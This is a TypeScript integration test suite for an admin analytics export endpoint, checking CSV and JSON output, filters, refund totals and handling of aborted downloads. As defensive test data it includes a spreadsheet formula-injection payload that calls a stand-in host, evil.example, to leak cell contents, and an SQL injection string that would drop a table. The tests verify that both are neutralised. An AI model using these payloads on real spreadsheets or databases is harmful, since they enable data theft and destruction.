import { parse } from 'csv-parse/sync';

import { RollUpService } from '#features/analytics';

import { adminToken } from '../../../support/people.js';
import { type AdminWorld, APPLY, aPayment, dataOf, errorOf, openAdmin } from '../admin-world.js';

const EXPORT = '/api/admin/analytics/export';
/** A spreadsheet would run it. */
const FORMULA = '=HYPERLINK("http://evil.example/?"&A1)';

type Row = Readonly<Record<string, unknown>>;

describe('the export of analytics', () => {
  let world: AdminWorld;
  let couponId: string;

  beforeAll(async () => {
    world = await openAdmin();
    const coupon = await world.admin.make({ code: 'EXPORT' });
    couponId = coupon.id;
    await world.admin.make({ code: '-DASHED' });
    const asha = world.customer('asha', 'asha@example.com');
    await asha.post(APPLY, aPayment('EXPORT', { order_id: FORMULA })).expect(200);
    await asha.post(APPLY, aPayment('EXPORT', { order_id: 'line one\nline "two", ünïcode 😀' })).expect(200);
    await asha.post(APPLY, aPayment('-DASHED', { order_id: '+1', service: 'premium_support' })).expect(200);
    await world.app.app.get(RollUpService).catchUp();
  });
  afterAll(() => world.close());

  async function table(query: string): Promise<readonly Row[]> {
    const response = await world.admin.get(`${EXPORT}?${query}`).expect(200);
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(response.headers['content-disposition']).toMatch(/^attachment; filename="\w+-from-[\d-]+\.csv"$/u);
    return parse(response.text, { columns: true });
  }

  async function json(query: string): Promise<readonly Row[]> {
    const response = await world.admin.get(`${EXPORT}?format=json&${query}`).expect(200);
    expect(response.headers['content-type']).toBe('application/json; charset=utf-8');
    return dataOf(response) as readonly Row[];
  }

  it('is a table of redemptions in which no cell is a formula', async () => {
    const rows = await table('report=redemptions&period=7d');
    expect(rows.map((row) => [row['order_id'], row['code'], row['service']])).toEqual([
      [`'${FORMULA}`, 'EXPORT', 'strength_finder'],
      ['line one\nline "two", ünïcode 😀', 'EXPORT', 'strength_finder'],
      [`'+1`, `'-DASHED`, 'premium_support'],
    ]);
    expect(rows[0]).toMatchObject({
      status: 'redeemed',
      partner_id: '',
      user_id: 'asha',
      user_email: 'asha@example.com',
      coupon_id: couponId,
      currency: 'INR',
      order_value: '49900',
      discount_amount: '9980',
      refunded_amount: '0',
    });
  });

  it('is JSON with what was typed', async () => {
    const rows = await json('period=7d');
    expect(rows.map((row) => row['order_id'])).toEqual([FORMULA, 'line one\nline "two", ünïcode 😀', '+1']);
    expect(rows[0]).toMatchObject({ order_value: 49_900, discount_amount: 9_980, partner_id: null });
  });

  it('is of the coupons, and of the series', async () => {
    expect(await table('report=coupons&period=7d')).toEqual([
      {
        coupon_id: couponId,
        code: 'EXPORT',
        partner_id: '',
        currency: 'INR',
        redemptions: '2',
        order_value: '99800',
        discount_amount: '19960',
      },
      expect.objectContaining({ code: `'-DASHED`, redemptions: '1' }),
    ]);
    const series = await json('report=series&period=7d&granularity=day');
    expect(series).toHaveLength(7);
    expect(series.at(-1)).toMatchObject({ currency: 'INR', redemptions: 3, order_value: 149_700 });
    expect(await table('report=series&period=7d')).toHaveLength(7);
  });

  it('tells of a service what its lines come to, and what was given and paid back for them', async () => {
    await world.admin.make({ code: 'MIXED' });
    const items = [
      { quantity: 1, unitPrice: 10_000, service: 'alpha' },
      { quantity: 1, unitPrice: 30_000, service: 'beta' },
    ];
    const order = { reference: 'mixed', items };
    const made = await world.service
      .post('/v1/redemptions', { codes: ['MIXED'], customer: { id: 'ben' }, order })
      .expect(201);
    const { id } = made.body as { id: string };
    const refund = { lines: [{ index: 1, quantity: 1 }] };
    await world.service.post(`/v1/redemptions/${id}/refund`, refund).expect(200);
    await world.app.app.get(RollUpService).catchUp();

    const alpha = { order_value: 10_000, discount_amount: 2_000, order_discount_amount: 2_000 };
    const beta = { order_value: 30_000, discount_amount: 6_000, order_discount_amount: 6_000 };
    const whole = { order_value: 40_000, discount_amount: 8_000, order_discount_amount: 8_000 };
    expect(await json('service=alpha')).toEqual([
      expect.objectContaining({ ...alpha, service: 'alpha', refunded_amount: 0 }),
    ]);
    expect(await json('service=beta')).toEqual([
      expect.objectContaining({ ...beta, service: 'beta', refunded_amount: 24_000 }),
    ]);
    expect((await json('period=7d')).at(-1)).toMatchObject({
      ...whole,
      service: 'alpha beta',
      refunded_amount: 24_000,
    });
    for (const [service, { order_value, discount_amount }] of Object.entries({ alpha, beta })) {
      const sums = { redemptions: 1, order_value, discount_amount };
      const figures = await world.admin.get(`/api/admin/analytics/coupons?service=${service}`).expect(200);
      expect(dataOf(figures)).toMatchObject({ totals: sums });
      expect(await json(`report=coupons&service=${service}`)).toEqual([expect.objectContaining(sums)]);
    }
  });

  it.each([
    ['service=premium_support', 1],
    [`coupon_id=COUPON`, 2],
    ['currency=USD', 0],
    ['start_date=2020-01-01&end_date=2020-01-31', 0],
  ])('narrows to %s', async (query, count) => {
    const narrowed = query.replace('COUPON', couponId);
    expect(await table(narrowed)).toHaveLength(count);
    expect(await json(narrowed)).toHaveLength(count);
    expect(await json(`report=coupons&${narrowed}`)).toHaveLength(Math.min(1, count));
  });

  it('does not let a value into the statement', async () => {
    expect(await json(`service=${encodeURIComponent(`x'; DROP TABLE owners; --`)}`)).toEqual([]);
    expect(await json(`service=${encodeURIComponent(`\\'"]`)}`)).toEqual([]);
  });

  it.each([
    ['report=everything', 'VALIDATION_ERROR'],
    ['format=xml', 'VALIDATION_ERROR'],
    ['period=forever', 'INVALID_PERIOD'],
  ])('is refused for ?%s', async (query, code) => {
    expect(errorOf(await world.admin.get(`${EXPORT}?${query}`).expect(400)).code).toBe(code);
  });

  it('is not there for an unknown coupon', async () => {
    await world.admin.get(`${EXPORT}?coupon_id=nothing`).expect(404);
  });

  it('goes on serving when readers go away in the middle', async () => {
    await world.app.database.query(
      `INSERT INTO redemptions
       SELECT many.* FROM redemptions r CROSS JOIN generate_series(1, 30000) i
       CROSS JOIN LATERAL jsonb_populate_record(r, jsonb_build_object('id', r.id || '-' || i,
         'order_reference', 'many-' || i)) many WHERE r.order_reference = '+1'`,
    );
    await world.app.database.query(
      `INSERT INTO redemption_uses
       SELECT many.* FROM redemptions r
       CROSS JOIN (SELECT redemption_uses FROM redemption_uses WHERE code = '-DASHED' LIMIT 1) u (row)
       CROSS JOIN LATERAL jsonb_populate_record(u.row, jsonb_build_object('redemption_id', r.id)) many
       WHERE r.order_reference LIKE 'many-%'`,
    );
    const authorization = `Bearer ${await adminToken(world.app)}`;
    for (let time = 0; time < 5; time += 1) {
      const gone = new AbortController();
      const response = await fetch(`${world.app.url}${EXPORT}`, {
        headers: { authorization },
        signal: gone.signal,
      });
      await response.body?.getReader().read();
      gone.abort();
    }
    expect(await table('period=7d')).toHaveLength(30_004);
  });
});
